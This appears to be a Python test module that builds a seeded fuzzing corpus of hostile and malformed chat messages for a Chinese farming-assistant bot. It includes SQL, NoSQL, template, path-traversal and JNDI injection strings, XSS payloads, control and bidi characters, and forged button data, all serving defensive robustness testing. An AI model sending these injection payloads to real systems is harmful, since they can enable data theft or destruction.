"""A deterministic corpus of hostile and broken input for the bot: what villagers, jokers and modified clients send.

Why: the assistant must answer every message politely and never break, whatever arrives: texts far over
the limits, control characters and NULs, direction overrides and zero-width characters, emoji floods,
injection strings, markup that would not render, forged button data and deep links, impossible phone
numbers and places, commands with garbage arguments, and dialect typed in three scripts at once. The
corpus is generated from a seed, so a failure names an input that can be made again.

Nothing here asks for anything that legitimately writes (a person, a registration, a posted need): the
test built on it proves that no write happens, so the corpus must not contain a real request.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

SEED = 20261123
SIZE = 10_200

CHINESE = ("猪", "鸡", "鸭", "牛", "羊", "鱼", "稻", "麦", "茶", "菜", "果", "苗", "病", "虫", "肥", "水", "叶", "根", "黄",
           "死", "咳", "拉", "烂", "长", "瘟", "药", "打", "喂", "种", "养")
DIALECT = ("我屋头的猪莫得精神", "鸡儿这几天不吃食", "咋个整嘛", "晓得不", "巴适得板", "啥子病哦", "遭了遭了", "要得",
           "莫得办法了", "田头的秧子黄了", "鱼塘浮头", "你娃快点", "安逸", "恼火得很")
PINYIN = ("zhu bu chi shi", "ji ke sou", "zen me ban", "nong yao", "hai chong", "wo jia de niu", "dao wen bing")
TRADITIONAL = ("豬瘟怎麼辦", "雞瘟", "農藥", "蟲害嚴重", "種子發黴", "魚塘缺氧", "牛羊發燒")
LATIN = ("help", "pig sick", "hello??", "test", "OK", "why", "asap!!!", "lol", "null", "undefined", "NaN")
EMOJI = ("🐷", "🐔", "🐟", "🌾", "😭", "🙏", "👍", "🔥", "💊", "🐛", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "👍🏽", "1️⃣", "❤️", "🧑🏿‍🌾")
CONTROL = [chr(code) for code in (*range(0, 32), 0x7F, 0x85, 0x9F)]
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c",
             "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u061c", "\u00ad", "\u180e", "\u3164")
RTL_TEXT = ("مرحبا", "خنزير مريض", "שלום", "חזיר חולה", "ܫܠܡܐ")
SQL = ("' OR '1'='1", "'; DROP TABLE users; --", "\" OR 1=1 --", "1; DELETE FROM needs", "admin'--",
       "' UNION SELECT phone FROM users --", "%' AND 1=0 UNION ALL SELECT NULL,NULL --", "'); EXEC xp_cmdshell('dir'); --",
       "1' AND SLEEP(5)#", "$where: '1 == 1'", "{\"$gt\": \"\"}", "../../etc/passwd", "${jndi:ldap://x/a}", "{{7*7}}")
HTML = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>猪</b>", "</b>", "<a href=\"javascript:x\">点</a>",
        "<iframe src=//x>", "<svg/onload=alert(1)>", "<tg-spoiler>", "<span class=\"x\">", "<pre><code>", "<!-- 注释",
        "<<b>>", "<b><i>交叉</b></i>", "<blockquote expandable>")
MARKUP = ("*_[", "*粗", "_斜", "[链接](", "[a](http://", "`代码", "```", "~删", "||剧透", "\\", "&amp", "&amp;", "&lt;",
          "&#0;", "&#xD800;", "&#99999999;", "&nbsp;", "&", "**", "__", "![x](tg://emoji?id=1)", ">引用", "\\*", "#标签",
          "!", ".", "-", "=", "|", "{", "}", "(", ")")
UNKNOWN_TOWNSHIPS = ("火星县坪滩镇", "岳池县不存在镇", "坪滩镇镇镇", "北京市朝阳区", "四川省四川省四川省", "县镇乡村",
                     "岳池县坪滩镇" * 20, "月池县瓶滩镇", "ABC县XYZ镇", "0000县", "镇")
COMMANDS = ("/claim", "/done", "/role", "/onboard", "/onboard_confirm", "/queue", "/stats", "/help", "/cancel",
            "/start")
CODE_ALPHABET = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"


@dataclass(frozen=True)
class BadInput:
    """One thing to send: a text (commands and /start links included) or a callback query's data."""

    category: str
    kind: Literal["text", "callback"]
    content: str


def _pick(rng: random.Random, pool: tuple[str, ...] | list[str], count: int) -> list[str]:
    return [rng.choice(pool) for _ in range(count)]


def _chinese(rng: random.Random, length: int) -> str:
    return "".join(_pick(rng, CHINESE, length))


def _garbage(rng: random.Random, length: int) -> str:
    """Printable ASCII, CJK, emoji and a few invisible characters: what a fuzzing client types."""
    pools = (string.printable.strip(), "".join(CHINESE), "".join(INVISIBLE), "".join(EMOJI), "'\"<>&;%$#*_[]`\\")
    return "".join(rng.choice(rng.choice(pools)) for _ in range(length))


def huge(rng: random.Random) -> str:
    """Texts of 10k-30k characters (refused up front), and some just under the 2,000-character limit."""
    length = rng.randint(1_500, 2_000) if rng.random() < 0.25 else rng.randint(10_000, 30_000)
    pieces = (*DIALECT, *LATIN, *EMOJI, "\n", "\n\n\n", " " * 50, "。" * 20)
    text = ""
    while len(text) < length:
        text += rng.choice(pieces)
    return text[:length]


def control(rng: random.Random) -> str:
    """Chinese with NULs, escapes, backspaces and other control characters mixed in."""
    parts = [_chinese(rng, rng.randint(1, 6))]
    for _ in range(rng.randint(1, 12)):
        parts.append("".join(_pick(rng, CONTROL, rng.randint(1, 5))))
        parts.append(rng.choice((_chinese(rng, 2), "\x1b[31m红字\x1b[0m", "\r\n", "猪\b\b\b鸡", "\x00" * 30)))
    return "".join(parts)


def bidi(rng: random.Random) -> str:
    """Direction overrides, zero-width characters, right-to-left scripts and stacked combining marks."""
    zalgo = rng.choice(CHINESE) + "".join(chr(rng.randint(0x300, 0x36F)) for _ in range(rng.randint(5, 80)))
    parts = [rng.choice(DIALECT), rng.choice(RTL_TEXT), zalgo, *_pick(rng, INVISIBLE, rng.randint(1, 30))]
    rng.shuffle(parts)
    return "".join(parts)


def emoji(rng: random.Random) -> str:
    """From a handful to thousands of emoji, ZWJ families, flags and skin tones."""
    count = rng.choice((3, 50, 500, 1_999, 3_000))
    return "".join(_pick(rng, EMOJI, count)) + rng.choice(("", "猪咋个了", "救命"))


def sql(rng: random.Random) -> str:
    """Injection strings for SQL, NoSQL, templates and paths, alone or inside a need."""
    attack = rng.choice(SQL)
    return rng.choice((attack, f"我家猪{attack}不吃食", f"{attack}{_chinese(rng, 3)}", attack * rng.randint(2, 20)))


def html(rng: random.Random) -> str:
    """HTML and script injection, half-open tags and bad nesting."""
    return "".join(_pick(rng, (*HTML, *_pick(rng, CHINESE, 3)), rng.randint(1, 8)))


def markup(rng: random.Random) -> str:
    """Markdown and HTML-entity fragments that break any parse mode: *_[ <b> &amp and friends."""
    return _chinese(rng, 1) + "".join(_pick(rng, (*MARKUP, *_pick(rng, CHINESE, 4)), rng.randint(1, 20)))


def callback(rng: random.Random) -> str:
    """Forged button data: random, overlong, unknown 16-hex ids, payload lookalikes and empty."""
    choice = rng.randrange(5)
    if choice == 0:
        return _garbage(rng, rng.randint(1, 64))
    if choice == 1:
        return _garbage(rng, rng.randint(65, 2_000))
    if choice == 2:
        return "".join(_pick(rng, "0123456789abcdef", 16))
    if choice == 3:
        return rng.choice(('/affirm', '/claim 1', '/inform{"township":"岳池县坪滩镇"}', '/request_human', "/done 1 x"))
    return ""


def deep_link(rng: random.Random) -> str:
    """/start with invitation (inv-) and hand-over (tk-) payloads that are garbage."""
    prefix = rng.choice(("inv-", "tk-", "INV-", "TK-", "inv", "tk", "inv--", "tk-tk-"))
    payload = rng.choice((
        "", "".join(_pick(rng, CODE_ALPHABET, 8)), "".join(_pick(rng, "23456789", 8)), _garbage(rng, rng.randint(1, 300)),
        rng.choice(SQL), "0" * 64, "-" * 200, "\x00", "🐷" * 30))
    return f"/start {prefix}{payload}"


def impossible_phone(rng: random.Random) -> str:
    """Numbers no mainland mobile can be: too short or long, the wrong first digit, letters, foreign."""
    digits = "".join(_pick(rng, string.digits, rng.choice((1, 5, 10, 12, 15, 30))))
    return rng.choice((
        digits, "0" + digits[:10], "2" + "".join(_pick(rng, string.digits, 10)), "１３８１２３４５６７８９０",
        "+1 555 0100", "138-1234-567", "1381234567a", "１３８ＡＢＣＤ５６７８", "+86 0" + digits[:10], "-" + digits,
        "１" * 40, "13800000000" + digits))


def phone_or_place(rng: random.Random) -> str:
    """Impossible phone numbers and townships, as people type them into the conversation."""
    phone = impossible_phone(rng)
    place = rng.choice(UNKNOWN_TOWNSHIPS)
    return rng.choice((phone, f"我的电话是{phone}", place, f"我在{place}", f"{place} {phone}", f"电话：{phone}；地址：{place}"))


def command(rng: random.Random) -> str:
    """The bot's commands with garbage arguments, unknown commands and odd spellings."""
    name = rng.choice(COMMANDS)
    argument = rng.choice((
        "", "abc", "-1", "0", "#", "99999999999999999999999", "1.5", "一", "²", "١٢", "#12 说明", _garbage(rng, rng.randint(1, 80)),
        f"张三 {impossible_phone(rng)}", f"张三 {impossible_phone(rng)} 农户", "张三 13881234567 火星人", "xxx",
        rng.choice(SQL)))
    spelled = rng.choice((name, name.upper(), f"{name}@kejibang_test_bot", f"{name}@other_bot", "/" + _garbage(rng, 5),
                          "/drop_table", "/" + "a" * 40, "／claim"))
    return f"{spelled} {argument}".rstrip() or name


def dialect(rng: random.Random) -> str:
    """Sichuan dialect typed with pinyin, English, traditional characters, full-width forms and emoji."""
    pools = (DIALECT, PINYIN, TRADITIONAL, LATIN, EMOJI, ("！！！", "？？", "，，", "。。。", "ＡＢＣ", "１２３"))
    return " ".join(rng.choice(rng.choice(pools)) for _ in range(rng.randint(2, 12))) + rng.choice(DIALECT)


MAKERS: dict[str, tuple[Literal["text", "callback"], Callable[[random.Random], str]]] = {
    "huge": ("text", huge), "control": ("text", control), "bidi": ("text", bidi), "emoji": ("text", emoji),
    "sql": ("text", sql), "html": ("text", html), "markup": ("text", markup), "callback": ("callback", callback),
    "deep_link": ("text", deep_link), "phone_place": ("text", phone_or_place), "command": ("text", command),
    "dialect": ("text", dialect),
}


def corpus(size: int = SIZE, seed: int = SEED) -> list[BadInput]:
    """``size`` inputs, the categories taken in turn; the same seed always gives the same corpus."""
    rng = random.Random(seed)
    names = list(MAKERS)
    items = []
    for index in range(size):
        name = names[index % len(names)]
        kind, make = MAKERS[name]
        items.append(BadInput(name, kind, make(rng)))
    return items
